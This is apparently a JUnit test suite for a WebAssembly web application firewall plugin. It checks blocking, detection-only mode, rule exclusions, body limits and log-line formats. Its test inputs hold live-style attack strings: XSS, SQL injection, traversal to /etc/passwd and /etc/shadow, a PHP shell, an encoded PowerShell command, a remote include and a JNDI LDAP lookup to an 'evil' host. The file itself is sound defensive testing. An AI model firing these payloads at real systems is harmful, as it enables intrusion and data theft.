package dev.proxywasm.plugins.waflite;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.proxywasm.harness.Action;
import dev.proxywasm.harness.Headers;
import dev.proxywasm.harness.HttpStream;
import dev.proxywasm.harness.LogLevel;
import dev.proxywasm.harness.PluginStartException;
import dev.proxywasm.harness.ProxyWasmHost;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

/** The compiled module (target/plugin.wasm) in the harness: what operators will see. */
class WafLiteWasmTest {
  static final Path WASM = Path.of("target/plugin.wasm");
  /** The seed's coraza-proxy-wasm pluginConfig, unchanged. */
  static final String SEED_CONFIG = """
      {"default_directives": "default",
       "directives_map": {"default": ["Include @demo-conf", "SecDebugLogLevel 9", "SecRuleEngine On",
         "Include @crs-setup-conf", "Include @owasp_crs/*.conf"]}}""";

  static Headers get(String path) {
    return Headers.of(":method", "GET", ":path", path, ":authority", "shop.example", ":scheme", "http",
        "user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0", "accept", "*/*");
  }

  static Headers post(String path, String contentType) {
    return Headers.of(":method", "POST", ":path", path, ":authority", "shop.example", ":scheme", "http",
        "user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0", "content-type", contentType);
  }

  @Test
  void seedXssInQueryIsBlockedInTheHeaderPhase() {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(SEED_CONFIG).start()) {
      HttpStream stream = host.newHttpStream();
      Action action = stream.sendRequestHeaders(get("/api/catalog?arg=<script>alert(0)</script>"), true);
      assertEquals(Action.PAUSE, action);
      assertEquals(403, stream.localResponse().status());
      assertEquals(1, host.metric("waf_lite.blocked"));
      assertEquals(1, host.metric("waf_lite.match.941"));
      List<String> warnings = host.logMessages(LogLevel.WARN);
      assertEquals(1, warnings.size());
      assertTrue(warnings.get(0).contains("[id \"941"), warnings.get(0));
      assertTrue(warnings.get(0).contains("(phase 1)"), warnings.get(0));
      assertTrue(warnings.get(0).contains("ARGS:arg"), warnings.get(0));
      assertTrue(warnings.get(0).contains("[uri \"/api/catalog?arg=<script>"), warnings.get(0));
    }
  }

  @Test
  void seedSqlInjectionInBodyIsBlockedInTheBodyPhase() {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(SEED_CONFIG).start()) {
      HttpStream stream = host.newHttpStream();
      // Like coraza-proxy-wasm: headers continue while Envoy buffers the body for inspection.
      assertEquals(Action.CONTINUE, stream.sendRequestHeaders(
          post("/api/catalog", "application/x-www-form-urlencoded"), false));
      assertFalse(stream.hasLocalResponse());
      assertEquals(Action.PAUSE, stream.sendRequestBody("1%27%20ORDER%20BY%203--%2B", true));
      assertEquals(403, stream.localResponse().status());
      assertTrue(host.logMessages(LogLevel.WARN).get(0).contains("(phase 2)"));
      assertEquals(1, host.metric("waf_lite.match.942"));
    }
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "/books?author=O%27Reilly",
      "/shop?q=SELECT+your+size",
      "/search?q=union+was+a+great+select",
      "/api/v1/items?page=2&sort=price&filter=in_stock",
  })
  void benignLookAlikesInTheQueryPass(String path) {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(SEED_CONFIG).start()) {
      HttpStream stream = host.newHttpStream();
      assertEquals(Action.CONTINUE, stream.sendRequestHeaders(get(path), true));
      assertFalse(stream.hasLocalResponse());
      assertEquals(1, host.metric("waf_lite.requests"));
      assertEquals(0, host.metric("waf_lite.blocked"));
    }
  }

  @Test
  void markdownWithHtmlInAJsonBodyPasses() {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(SEED_CONFIG).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(post("/api/comments", "application/json"), false);
      Action action = stream.sendRequestBody(
          "{\"body\":\"Some **bold** and <b>bold</b> text, see <a href=\\\"/docs\\\">docs</a>.\","
              + "\"author\":\"O'Reilly\"}", true);
      assertEquals(Action.CONTINUE, action);
      assertFalse(stream.hasLocalResponse());
    }
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', value = {
      "941 XSS | /p?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
      "942 SQLi | /p?id=1%20UNION%20SELECT%20password%20FROM%20users--",
      "930 LFI | /p?file=../../../../etc/passwd",
      "931 RFI | /p?page=http://10.1.2.3/shell.txt",
      "932 RCE unix | /p?host=127.0.0.1%3Bcat%20/etc/shadow",
      "932 RCE windows | /p?cmd=powershell.exe%20-enc%20ZQBjAGgAbwA%3D",
      "933 PHP | /p?x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B",
      "934 SSTI | /p?name=%7B%7B7*7%7D%7D",
      "934 prototype pollution | /p?__proto__%5Badmin%5D=1",
      "944 Java | /p?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
  })
  void representativeAttacksAreBlocked(String family, String path) {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).start()) {
      HttpStream stream = host.newHttpStream();
      assertEquals(Action.PAUSE, stream.sendRequestHeaders(get(path), true), family);
      assertEquals(403, stream.localResponse().status(), family);
      assertEquals(1, host.metric("waf_lite.match." + family.substring(0, 3)), family);
    }
  }

  /**
   * 930100 looks for encoded traversals in the value as sent: hex forms hold neither {@code %}
   * nor {@code .}, and a double-encoded one is gone once decoded, so both must reach the rule.
   */
  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', value = {
      "hex, no % and no dot | /p?f=0x2e0x2e0x2fetc",
      "double-encoded | /p?f=%252e%252e%252fimages",
  })
  void encodedTraversalsAreFoundInTheValueAsSent(String form, String path) {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(get(path), true);
      assertEquals(403, stream.localResponse().status(), form);
      assertTrue(host.logMessages(LogLevel.WARN).get(0).contains("[id \"930100\"]"),
          () -> form + ": " + host.logMessages(LogLevel.WARN));
    }
  }

  @Test
  void scannerUserAgentIsBlocked() {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(Headers.of(":method", "GET", ":path", "/", ":authority", "a",
          "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), true);
      assertEquals(403, stream.localResponse().status());
    }
  }

  @Test
  void aRestrictedHeaderIsRefused() {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(get("/api/orders").with("X-HTTP-Method-Override", "DELETE"), true);
      assertEquals(403, stream.localResponse().status());
      String line = host.logMessages(LogLevel.WARN).get(0);
      assertTrue(line.contains("[id \"920450\"]"), line);
      assertTrue(line.contains("REQUEST_HEADERS_NAMES:x-http-method-override"), line);
    }
  }

  @Test
  void aBodyWithoutContentTypeIsRefusedButAnEmptyOneIsNot() {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).start()) {
      HttpStream empty = host.newHttpStream();
      Headers headers = get("/api/orders").without(":method").with(":method", "POST");
      empty.sendRequestHeaders(headers, false);
      empty.sendRequestBody("", true);
      assertFalse(empty.hasLocalResponse(), () -> empty.localResponse() + " " + host.logs());

      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(headers, false);
      stream.sendRequestBody("hello", true);
      assertEquals(403, stream.localResponse().status());
      String line = host.logMessages(LogLevel.WARN).get(0);
      assertTrue(line.contains("[id \"920640\"]"), line);
    }
  }

  @Test
  void detectionOnlyLogsButLetsTheRequestThrough() {
    String config = "{\"mode\": \"DetectionOnly\"}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream stream = host.newHttpStream();
      assertEquals(Action.CONTINUE, stream.sendRequestHeaders(get("/p?q=%3Cscript%3Ealert(1)%3C/script%3E"), true));
      assertFalse(stream.hasLocalResponse());
      assertEquals(0, host.metric("waf_lite.blocked"));
      assertTrue(host.logMessages(LogLevel.WARN).get(0).contains("DetectionOnly"));
    }
  }

  @Test
  void corazaDetectionOnlyDirectiveIsHonoured() {
    String config = "{\"directives_map\": {\"d\": [\"SecRuleEngine DetectionOnly\"]}, \"default_directives\": \"d\"}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream stream = host.newHttpStream();
      assertEquals(Action.CONTINUE, stream.sendRequestHeaders(get("/p?q=%3Cscript%3Ealert(1)%3C/script%3E"), true));
    }
  }

  @Test
  void ruleExcludedForOneArgumentStillAppliesToOthers() {
    String config = "{\"rule_exclusions\": [{\"id\": 932235, \"target\": \"ARGS:cmd\"},"
        + " {\"id\": 932125, \"target\": \"cmd\"}]}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream allowed = host.newHttpStream();
      assertEquals(Action.CONTINUE, allowed.sendRequestHeaders(get("/run?cmd=x%3Bwhoami"), true));
      HttpStream blocked = host.newHttpStream();
      assertEquals(Action.PAUSE, blocked.sendRequestHeaders(get("/run?other=x%3Bwhoami"), true));
    }
  }

  @Test
  void ruleRemovedByIdRangeInCorazaFormat() {
    String config = "{\"directives_map\": {\"d\": [\"SecRuleEngine On\", \"SecRuleRemoveById 941000-941999\"]},"
        + " \"default_directives\": \"d\"}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream stream = host.newHttpStream();
      assertEquals(Action.CONTINUE, stream.sendRequestHeaders(get("/p?q=%3Cscript%3Ealert(1)%3C/script%3E"), true));
    }
  }

  @Test
  void allowListedPathIsNotInspected() {
    String config = "{\"allowed_paths\": [\"/internal/*\"]}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream stream = host.newHttpStream();
      assertEquals(Action.CONTINUE, stream.sendRequestHeaders(get("/internal/debug?q=%3Cscript%3E"), true));
      assertEquals(0, host.metric("waf_lite.requests"));
    }
  }

  @Test
  void bodyOverTheLimitIsRejectedWith413() {
    String config = "{\"request_body_limit\": 16}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(post("/upload", "application/x-www-form-urlencoded"), false);
      stream.sendRequestBody("a=0123456789012345678901234567890", true);
      assertEquals(413, stream.localResponse().status());
    }
  }

  @Test
  void bodyOverTheLimitIsPartlyInspectedWithProcessPartial() {
    String config = "{\"directives_map\": {\"d\": [\"SecRequestBodyLimit 32\","
        + " \"SecRequestBodyLimitAction ProcessPartial\"]}, \"default_directives\": \"d\"}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream clean = host.newHttpStream();
      clean.sendRequestHeaders(post("/upload", "application/x-www-form-urlencoded"), false);
      assertEquals(Action.CONTINUE, clean.sendRequestBody("a=" + "x".repeat(40) + "&b=%3Cscript%3E", true));
      HttpStream attack = host.newHttpStream();
      attack.sendRequestHeaders(post("/upload", "application/x-www-form-urlencoded"), false);
      attack.sendRequestBody("b=%3Cscript%3Ealert(1)%3C/script%3E" + "x".repeat(40), true);
      assertEquals(403, attack.localResponse().status());
    }
  }

  @Test
  void blockingStatusAndBodyAreConfigurable() {
    String config = "{\"blocking_status\": 406, \"blocking_body\": \"nope\"}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(get("/p?q=%3Cscript%3Ealert(1)%3C/script%3E"), true);
      assertEquals(406, stream.localResponse().status());
      assertEquals("nope", stream.localResponse().body());
    }
  }

  @Test
  void corazaSettingsMapOntoTheEngineAndIgnoredDirectivesAreLogged() {
    String config = "{\"directives_map\": {\"d\": [\"SecAction \\\"id:900000,phase:1,pass,nolog,"
        + "setvar:tx.blocking_paranoia_level=1,setvar:tx.inbound_anomaly_score_threshold=100\\\"\","
        + " \"SecDebugLogLevel 9\"]}, \"default_directives\": \"d\"}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      assertTrue(host.logMessages(LogLevel.INFO).stream().anyMatch(m -> m.contains("SecDebugLogLevel 9")));
      HttpStream stream = host.newHttpStream();
      // Two critical XSS rules (10) stay under a threshold of 100.
      assertEquals(Action.CONTINUE, stream.sendRequestHeaders(get("/p?q=javascript:alert(1)"), true));
    }
  }

  @Test
  void perAuthorityDirectivesSelectThePolicy() {
    String config = "{\"directives_map\": {\"on\": [\"SecRuleEngine On\"], \"off\": [\"SecRuleEngine Off\"]},"
        + " \"default_directives\": \"on\", \"per_authority_directives\": {\"legacy.example\": \"off\"}}";
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).pluginConfig(config).start()) {
      HttpStream legacy = host.newHttpStream();
      assertEquals(Action.CONTINUE, legacy.sendRequestHeaders(Headers.of(":method", "GET",
          ":path", "/p?q=%3Cscript%3E", ":authority", "legacy.example"), true));
      HttpStream shop = host.newHttpStream();
      assertEquals(Action.PAUSE, shop.sendRequestHeaders(get("/p?q=%3Cscript%3Ealert(1)%3C/script%3E"), true));
    }
  }

  @Test
  void invalidConfigurationIsRejectedWithTheFieldNamed() {
    PluginStartException failure = assertThrows(PluginStartException.class,
        () -> ProxyWasmHost.load(WASM).pluginConfig("{\"paranoia_level\": 7}").start());
    assertTrue(failure.logs().toString().contains("paranoia_level"), failure.logs().toString());
  }

  // The log lines below are pinned whole: operators' queries parse them (Coraza's shape).

  private static ProxyWasmHost.Builder withClient(ProxyWasmHost.Builder builder) {
    return builder.property("source.address", "10.1.2.3:4567");
  }

  private static Headers attack(String path) {
    return Headers.of(":method", "GET", ":path", path, ":authority", "a.example", ":scheme", "https",
        "x-request-id", "r-1");
  }

  @Test
  void blockLogLineNamesClientRulesTargetsScoreUriAndRequestId() {
    try (ProxyWasmHost host = withClient(ProxyWasmHost.load(WASM)).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(attack("/api/catalog?arg=%3Cscript%3Ealert(0)%3C%2Fscript%3E"), true);
      assertEquals(List.of("[client \"10.1.2.3:4567\"] waf-lite: Access denied with code 403 (phase 1)."
          + " Inbound Anomaly Score Exceeded (Total Score: 15)"
          + " [id \"941100\"] [msg \"XSS Attack Detected via libinjection-style HTML tokens\"]"
          + " [data \"Matched Data: <script found within ARGS:arg\"] [severity \"critical\"]"
          + " [id \"941110\"] [msg \"XSS Filter - Category 1: Script Tag Vector\"]"
          + " [data \"Matched Data: <script found within ARGS:arg\"] [severity \"critical\"]"
          + " [id \"941390\"] [msg \"Javascript method detected\"]"
          + " [data \"Matched Data: alert found within ARGS:arg\"] [severity \"critical\"]"
          + " [uri \"/api/catalog?arg=%3Cscript%3Ealert(0)%3C%2Fscript%3E\"] [unique_id \"r-1\"]"),
          host.logMessages(LogLevel.WARN));
      assertEquals(new LocalResponseShape(403, "Request blocked by waf-lite\n", "waf-lite_blocked", "text/plain"),
          LocalResponseShape.of(stream));
    }
  }

  @Test
  void blockLogLineEscapesQuotesBackslashesAndNonAsciiAndRedactsCredentials() {
    try (ProxyWasmHost host = withClient(ProxyWasmHost.load(WASM)).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(Headers.of(":method", "GET",
          ":path", "/p?k%22%5C%C3%A9%09=%3Cscript%3E&x=\"\\\u00e9&q=1%27%20AND%20SLEEP(5)--",
          ":authority", "a.example", ":scheme", "https", "cookie", "session=%3Cscript%3Ealert(1)%3C/script%3E"), true);
      assertEquals(List.of("[client \"10.1.2.3:4567\"] waf-lite: Access denied with code 403 (phase 1)."
          + " Inbound Anomaly Score Exceeded (Total Score: 25)"
          + " [id \"941100\"] [msg \"XSS Attack Detected via libinjection-style HTML tokens\"]"
          + " [data \"Matched Data: <script found within ARGS:k\\\"\\\\\\xc3\\xa9\\x09\"] [severity \"critical\"]"
          + " [id \"941110\"] [msg \"XSS Filter - Category 1: Script Tag Vector\"]"
          + " [data \"Matched Data: <script found within ARGS:k\\\"\\\\\\xc3\\xa9\\x09\"] [severity \"critical\"]"
          + " [id \"941390\"] [msg \"Javascript method detected\"]"
          + " [data \"Matched Data: [redacted] found within REQUEST_COOKIES:session\"] [severity \"critical\"]"
          + " [id \"942100\"] [msg \"SQL Injection Attack Detected via libinjection-style tokens\"]"
          + " [data \"Matched Data: s&f(1)c found within ARGS:q\"] [severity \"critical\"]"
          + " [id \"942151\"] [msg \"SQL Injection Attack: SQL function name detected\"]"
          + " [data \"Matched Data: sleep found within ARGS:q\"] [severity \"critical\"]"
          + " [uri \"/p?k%22%5C%C3%A9%09=%3Cscript%3E&x=\\\"\\\\\\xe9&q=1%27%20AND%20SLEEP(5)--\"]"
          + " [unique_id \"-\"]"), host.logMessages(LogLevel.WARN));
      assertEquals(1, host.metric("waf_lite.match.941"), "a family counts once per request");
      assertEquals(1, host.metric("waf_lite.match.942"));
      assertEquals(0, host.metric("waf_lite.match.932"));
    }
  }

  @Test
  void blockLogLineTruncatesLongTargetsAndUris() {
    try (ProxyWasmHost host = ProxyWasmHost.load(WASM).start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(attack("/p?" + "z".repeat(300) + "=%3Cscript%3E"), true);
      String line = host.logMessages(LogLevel.WARN).get(0);
      assertTrue(line.contains(" [data \"Matched Data: <script found within ARGS:" + "z".repeat(59)
          + "...\"] [severity \"critical\"]"), line);
      assertTrue(line.endsWith(" [uri \"/p?" + "z".repeat(253) + "...\"] [unique_id \"r-1\"]"), line);
      assertTrue(line.startsWith("[client \"-\"] waf-lite: Access denied"), line);
    }
  }

  @Test
  void detectionOnlyLogLineSaysWouldDeny() {
    try (ProxyWasmHost host = withClient(ProxyWasmHost.load(WASM)).pluginConfig("{\"mode\": \"DetectionOnly\"}")
        .start()) {
      HttpStream stream = host.newHttpStream();
      stream.sendRequestHeaders(attack("/p?q=;cat%20/etc/passwd"), true);
      assertEquals(List.of("[client \"10.1.2.3:4567\"] waf-lite: Warning (DetectionOnly): would deny (phase 1)."
          + " Inbound Anomaly Score Exceeded (Total Score: 10)"
          + " [id \"930120\"] [msg \"OS File Access Attempt\"]"
          + " [data \"Matched Data: etc/passwd found within ARGS:q\"] [severity \"critical\"]"
          + " [id \"932235\"] [msg \"Remote Command Execution: Unix Command Injection\"]"
          + " [data \"Matched Data: cat found within ARGS:q\"] [severity \"critical\"]"
          + " [uri \"/p?q=;cat%20/etc/passwd\"] [unique_id \"r-1\"]"), host.logMessages(LogLevel.WARN));
      assertEquals(1, host.metric("waf_lite.match.930"));
      assertEquals(1, host.metric("waf_lite.match.932"));
      assertEquals(0, host.metric("waf_lite.blocked"));
    }
  }

  @Test
  void oversizedBodyLogLineNamesTheLimit() {
    try (ProxyWasmHost host = withClient(ProxyWasmHost.load(WASM)).pluginConfig("{\"request_body_limit\": 16}")
        .start()) {
      HttpStream declared = host.newHttpStream();
      declared.sendRequestHeaders(Headers.of(":method", "POST", ":path", "/upload?" + "u".repeat(300),
          ":authority", "a.example", "content-length", "100000", "x-request-id", "r-2"), false);
      assertEquals(new LocalResponseShape(413, "Request body too large\n", "waf-lite_body_limit", "text/plain"),
          LocalResponseShape.of(declared));
      HttpStream streamed = host.newHttpStream();
      streamed.sendRequestHeaders(Headers.of(":method", "POST", ":path", "/upload?\"q\"", ":authority", "a.example"),
          false);
      streamed.sendRequestBody("a=0123456789012345678901234567890", true);
      assertEquals(413, streamed.localResponse().status());
      // Escaped, and "-" for a missing request id, as in the block line (until 2026-11 the URI
      // went out raw and a missing id as "null").
      assertEquals(List.of(
          "[client \"10.1.2.3:4567\"] waf-lite: Access denied with code 413 (phase 2). Request body larger than"
              + " the limit of 16 bytes [uri \"/upload?" + "u".repeat(248) + "...\"] [unique_id \"r-2\"]",
          "[client \"10.1.2.3:4567\"] waf-lite: Access denied with code 413 (phase 2). Request body larger than"
              + " the limit of 16 bytes [uri \"/upload?\\\"q\\\"\"] [unique_id \"-\"]"),
          host.logMessages(LogLevel.WARN));
      assertEquals(2, host.metric("waf_lite.blocked"));
    }
  }

  /** What a local reply is made of, for comparing whole. */
  private record LocalResponseShape(int status, String body, String details, String contentType) {
    static LocalResponseShape of(HttpStream stream) {
      var response = stream.localResponse();
      return new LocalResponseShape(response.status(), response.body(), response.details(),
          response.headers().get("content-type").orElse(null));
    }
  }
}
